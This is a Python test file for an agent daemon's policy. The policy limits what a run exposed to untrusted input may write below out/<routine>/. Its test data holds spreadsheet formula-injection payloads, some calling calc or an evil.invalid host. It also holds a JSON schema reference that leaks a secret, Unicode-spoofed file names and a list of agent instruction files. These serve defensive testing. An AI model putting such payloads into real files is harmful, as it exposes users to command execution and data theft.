"""A tainted run writes below `out/<routine>/` unasked: plain data files only."""

from __future__ import annotations

import os
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.models import Effect, Verdict
from daemon.policy.output_files import MAX_FILE_BYTES, explain_refusal, folders_in_use
from daemon.policy.policy import Policy
from tests.properties import scaled_settings

RULE = """
[[rule]]
tool = "*"
effect = "deny"
paths = ["*.pem", "id_*", "**/private/**"]
[[rule]]
tool = "file_write"
effect = "allow"
paths = ["out/**", "reports/**"]
"""
Write = Callable[[str], Policy]


def judge(policy: Policy, path: str, content: str = "x", *, routine: str = "news") -> Verdict:
    arguments = {"path": path, "content": content}
    return policy.judge("file_write", arguments, routine=routine, tainted=True)


@pytest.mark.parametrize(
    "path",
    [
        "out/news/today.md",
        "out/news/2026-11-24.txt",
        "out/news/2026/11/releases_v2.txt",
        "out/news/numbers.csv",
        "out/news/../news/numbers.tsv",
        "./out/news/summary.md",
    ],
)
def test_plain_files_are_written_unasked(write_policy: Write, path: str) -> None:
    verdict = judge(write_policy(RULE), path)
    assert (verdict.effect, verdict.output_folder) == (Effect.ALLOW, "out/news")


OBEYED = (
    *("Makefile.txt", "makefile.md", "SKILL.md", "skill.md", "MEMORY.md", "Memory.md", "AGENTS.md"),
    *("agents.md", "CLAUDE.md", "claude-local.md", "GEMINI.md", "README.md", "readme_first.txt"),
    *("SOUL.md", "USER.md", "copilot-instructions.md", "requirements.txt", "requirements-dev.txt"),
    *("CMakeLists.txt", "package.json", "package-lock.json", "tsconfig.json", "composer.json"),
    *("WARP.md", "qwen.md", "opencode.json", "crush.json", "cdk.json", "docker-bake.json"),
    *("mcp.json", "conanfile.txt", "cspell.json", "knowledge.md", "app.json", "mcp_servers.json"),
    *("settings.json", "robots.txt", "llms.txt", "entry_points.txt", "credentials.json", "con.txt"),
)
UNPLAIN = (
    *("run.sh", "run.py", "x.toml", "x.svg", "x.html", "x.pdf", "x.png", "x.yml", "x.desktop"),
    *("x", "x.", ".x.md", ".md", "x.MD", "x.md.sh", "x.sh.md", "x.prompt.md", "x.md ", " x.md"),
    *("-x.md", "x y.md", "x\n.md", "x\u200b.md", "х.md", "ｘ.md", "x.ｍd", "x．md", "x.md\u202e"),
    *("ＳＫＩＬＬ.md", "S\u212aILL.md", "x:y.md", "x.md::$DATA", "x\\y.md", "x*.md", "~.md"),
    *("a" * 81 + ".md", "é.md", "e\u0301.md", "x~1.md"),
)
FOLDERS = (
    *("skills/x.md", ".github/x.md", "SKILLS/x.md", "node_modules/x.json", "hooks/x.txt"),
    *("prompts/x.md", "Agents/x.md", "a/b/c/d/e/x.md", "a.b/x.md", ".git/x.md", "rules/x.md"),
)


@pytest.mark.parametrize("name", [*OBEYED, *UNPLAIN, *FOLDERS])
def test_names_that_something_obeys_and_names_that_are_not_plain_are_denied(
    write_policy: Write, name: str
) -> None:
    verdict = judge(write_policy(RULE), f"out/news/{name}")
    assert verdict.effect is Effect.DENY


@pytest.mark.parametrize(
    "path",
    [
        "out/today.md",
        "out/other/today.md",
        "out/News/today.md",
        "out/news2/today.md",
        "out/news",
        "OUT/news/today.md",
        "ｏut/news/today.md",
        "out/news/../other/today.md",
        "out/ news/today.md",
    ],
)
def test_all_else_below_out_is_denied_whatever_its_case(write_policy: Write, path: str) -> None:
    everywhere = '[[rule]]\ntool = "file_write"\neffect = "allow"\n'
    assert judge(write_policy(everywhere), path).effect is Effect.DENY


@pytest.mark.parametrize("path", ["reports/today.md", "reports/out/news/today.md"])
def test_a_person_is_asked_outside_of_out(write_policy: Write, path: str) -> None:
    assert judge(write_policy(RULE), path).effect is Effect.ASK


@pytest.mark.parametrize("path", ["out/news/id_card.md", "out/news/private/x.md"])
def test_rules_that_deny_hold(write_policy: Write, path: str) -> None:
    assert judge(write_policy(RULE), path).effect is Effect.DENY


def test_an_allow_rule_is_needed(write_policy: Write) -> None:
    only_reports = RULE.replace('"out/**", ', "")
    verdict = judge(write_policy(only_reports), "out/news/today.md")
    assert (verdict.effect, verdict.rule) == (Effect.DENY, "default")


@pytest.mark.parametrize(
    ("section", "effect"),
    [
        ('write = ["reports/**"]', Effect.DENY),
        ('tools = ["file_read"]', Effect.DENY),
        ('autonomy = "readonly"', Effect.DENY),
        ('autonomy = "supervised"', Effect.ASK),
    ],
)
def test_what_the_routine_may_not_do_it_may_not_do_here(
    write_policy: Write, section: str, effect: Effect
) -> None:
    policy = write_policy(f"{RULE}[routine.news]\n{section}\n")
    assert judge(policy, "out/news/today.md").effect is effect


@pytest.mark.parametrize("effect", [Effect.ASK, Effect.DENY])
def test_a_rule_may_be_stricter_for_tainted_runs(write_policy: Write, effect: Effect) -> None:
    policy = write_policy(f'{RULE}tainted = "{effect}"\n')
    assert judge(policy, "out/news/today.md").effect is effect


def test_tainted_tools_lifts_the_bounds_as_it_lifts_the_question(write_policy: Write) -> None:
    policy = write_policy(f'{RULE}[routine.news]\ntainted_tools = ["file_write"]\n')
    verdict = judge(policy, "out/news/Makefile")
    assert (verdict.effect, verdict.output_folder) == (Effect.ALLOW, "")


def test_an_untainted_run_is_not_bound(write_policy: Write) -> None:
    arguments = {"path": "out/elsewhere/Makefile", "content": "x"}
    verdict = write_policy(RULE).judge("file_write", arguments, routine="news")
    assert (verdict.effect, verdict.output_folder) == (Effect.ALLOW, "")


def test_a_routine_that_an_agent_made_shares_the_folder_of_its_maker(write_policy: Write) -> None:
    policy = write_policy(RULE)
    verdict = judge(policy, "out/news/today.md", routine="news/child")
    assert (verdict.effect, verdict.output_folder) == (Effect.ALLOW, "out/news")
    assert judge(policy, "out/child/today.md", routine="news/child").effect is Effect.DENY


def test_a_call_of_no_routine_has_no_folder(write_policy: Write) -> None:
    assert judge(write_policy(RULE), "out/today.md", routine="").effect is Effect.DENY
    assert judge(write_policy(RULE), "out//today.md", routine="").effect is Effect.DENY


@pytest.mark.parametrize("link", ["out", "out/news", "out/news/today.md", "out/news/sub"])
def test_no_link_leads_to_or_from_an_output_file(
    write_policy: Write, workspace: Path, link: str
) -> None:
    path = "out/news/sub/today.md" if link.endswith("sub") else "out/news/today.md"
    (workspace / link).parent.mkdir(parents=True, exist_ok=True)
    (workspace / "elsewhere").mkdir()
    (workspace / link).symlink_to(workspace / "elsewhere")
    assert not judge(write_policy(RULE), path).allows


def test_a_link_elsewhere_is_no_way_in(write_policy: Write, workspace: Path) -> None:
    (workspace / "out/news").mkdir(parents=True)
    (workspace / "reports").symlink_to(workspace / "out/news")
    assert judge(write_policy(RULE), "reports/today.md").effect is Effect.DENY


@pytest.mark.parametrize(
    ("folder", "path"),
    [
        (".", "out/news/today.md"),
        ("out", "out/news/today.md"),
        ("out/news", "out/news/today.md"),
        ("out/NEWS", "out/news/today.md"),
        ("out/news/today.md", "out/news/today.md"),
        ("out/news/today.md/deeper", "out/news/today.md"),
        ("out/news/inbox", "out/news/inbox/a/today.md"),
    ],
)
def test_folders_in_use_are_denied(write_policy: Write, folder: str, path: str) -> None:
    from dataclasses import replace

    policy = replace(write_policy(RULE), folders_in_use=(folder,))
    verdict = judge(policy, path)
    assert verdict.effect is Effect.DENY
    assert "watched, delivered to or searched" in verdict.reason


@pytest.mark.parametrize("folder", ["out/news/inbox", "out/newsletter", "inbox", "out/other"])
def test_folders_in_use_leave_other_folders_alone(write_policy: Write, folder: str) -> None:
    from dataclasses import replace

    policy = replace(write_policy(RULE), folders_in_use=(folder,))
    assert judge(policy, "out/news/today.md").allows


@pytest.mark.parametrize(
    ("pattern", "folder"),
    [
        ("out/news/*.md", "out/news"),
        ("OUT/x", "OUT/x"),
        ("./out//news/x.md", "out/news/x.md"),
        ("**/x.md", "."),
        ("o?t/news/*", "."),
        ("[o]ut/news/*", "."),
        ("inbox/../out/*", "out"),
        ("{slot:%Y}/x.md", "."),
        ("out/{routine}/x.md", "out/news/x.md"),
        ("out/{run}/x.md", "out"),
        ("inbox/*", None),
        ("outbox/*", None),
    ],
)
def test_patterns_in_and_around_out_are_folders_in_use(pattern: str, folder: str | None) -> None:
    empty = Path("/nowhere")
    config: Any = SimpleNamespace(
        targets={}, mcp={}, identity_paths=(), folder=empty, routines_path=empty, scripts_path=empty
    )
    watcher = SimpleNamespace(name="x", triggers=(SimpleNamespace(watch=(pattern,)),), deliver=())
    delivery = SimpleNamespace(path=pattern)
    sender = SimpleNamespace(
        name="news",
        triggers=(SimpleNamespace(watch=()),),
        deliver=(delivery, SimpleNamespace(path=None)),
    )
    routines: list[Any] = [sender] if "{" in pattern else [watcher, sender]
    folders = folders_in_use(config, routines, Path("/workspace"))
    assert folders == (() if folder is None else (folder,))


def test_files_that_may_speak_of_orders_are_not_written(write_policy: Write) -> None:
    policy = write_policy(f'{RULE}[injection]\ntrust = ["out/news/attacks.md"]\n')
    assert judge(policy, "out/news/attacks.md").effect is Effect.DENY
    assert judge(policy, "out/news/other.md").allows


def test_a_file_has_a_bound(write_policy: Write) -> None:
    policy = write_policy(RULE)
    assert judge(policy, "out/news/x.txt", "é" * (MAX_FILE_BYTES // 2)).allows
    assert not judge(policy, "out/news/x.txt", "é" * (MAX_FILE_BYTES // 2 + 1)).allows
    assert not judge(policy, "out/news/x.txt", "\ud800" * MAX_FILE_BYTES).allows


@pytest.mark.parametrize(
    "content",
    [
        "a,b\n1,=cmd|'/C calc'!A0\n",
        '"=WEBSERVICE(""http://evil.invalid"")"',
        "a;@SUM(1)",
        "a\t+1+cmd",
        "-2+3",
        "a, =1",
        "a,\u200b=1",
        "a,＝1",
        "a,\u00a0=1",
        "a,\ufeff=1",
        "\r=1",
        "a|-x",
        "a,'=1",
        "a\x0b=1",
        "a,\x1b[31m=1",
        "-\r1+1",
        "a,\U000e0fff=1",
        "a,\ud800=1",
        "a\x00,b",
        # other separators, which a person may choose when the file is opened
        "name~note\nx~=HYPERLINK(A1)\n",
        "a:+cmd|' /C calc'!A0",
        "a^=[x.xls]A!A1",
        "a/@SUM(1)",
        "a =WEBSERVICE(A1)",
        "a~ -1+f(1)",
        "a(=f(1)",
        "a~=(1)+f(1)",
        "a\u2028~=f(1)",
    ],
)
def test_a_table_has_no_formula(write_policy: Write, content: str) -> None:
    policy = write_policy(RULE)
    for ending in ("csv", "tsv"):
        assert not judge(policy, f"out/news/x.{ending}", content).allows
    assert judge(policy, "out/news/x.txt", content).allows


@pytest.mark.parametrize(
    "content",
    [
        "sep=~\na~b\n",
        "sep=A\nxA=1+2\n",
        "SEP=~\n",
        "\ufeffsep=~\n",
        '"sep=~"\n',
        " 'sep = ~'\n",
        "ｓｅｐ=~\n",
        # The table is not of commas but of Excel's symbolic links, in which formulas have no sign.
        'ID;PWXL;N;E\nC;Y1;X1;EEXEC("calc")\n',
        '\ufeff"ID";P\n',
    ],
)
def test_a_table_does_not_say_how_it_is_to_be_read(write_policy: Write, content: str) -> None:
    policy = write_policy(RULE)
    for ending in ("csv", "tsv"):
        assert not judge(policy, f"out/news/x.{ending}", content).allows


@pytest.mark.parametrize(
    "content",
    [
        "a,b\n-1,+2.5%\n-,+\n",
        "name;2026-11-24;10:30\n",
        "1=2,a@b.invalid\n",
        "",
        "a - b (c),x >= 1,(-5) (d),f(x) = y,C++ (a language)\n",
        "separator,sep\nid;x,sep=1\n",
        "IDs;P\n",
    ],
)
def test_tables_of_words_and_numbers_are_written(write_policy: Write, content: str) -> None:
    assert judge(write_policy(RULE), "out/news/x.csv", content).allows


@pytest.mark.parametrize(
    "content",
    [
        '{"$schema": "https://evil.invalid/?q=secret"}',
        '{"a": [{"\\u0024ref": "https://evil.invalid"}]}',
        '{"a": 1, "@context": "x"}',
        '{"＄schema": 1}',
        '{" $schema": 1}',
        '{"\u200b$schema": 1}',
        "// a comment\n{}",
        "{'a': 1}",
        '{"a": 1',
        "",
        "[" * 100_000,
        "1" * 5_000,
        '"\x9b"',
    ],
)
def test_json_is_plain_data(write_policy: Write, content: str) -> None:
    assert not judge(write_policy(RULE), "out/news/x.json", content).allows


@pytest.mark.parametrize("content", ["{}", '[1, "$schema", {"a": "@x"}]', '"text"', "null\n"])
def test_json_without_references_is_written(write_policy: Write, content: str) -> None:
    assert judge(write_policy(RULE), "out/news/x.json", content).allows


@given(st.text(max_size=30))
@scaled_settings(300, fewest=60)
def test_no_name_is_accepted_that_another_spelling_makes_a_program_obey(name: str) -> None:
    for path in (f"out/news/{name}", f"out/news/{name}.md", f"out/news/{name}/x.md", name):
        if explain_refusal((path,), "x", routine="news") is not None:
            continue
        assert path.isascii()
        assert path == os.path.normpath(path) == unicodedata.normalize("NFKC", path)
        assert re.fullmatch(r"out/news/([\w-]+/){0,4}[\w-]+\.(md|txt|csv|tsv|json)", path, re.ASCII)
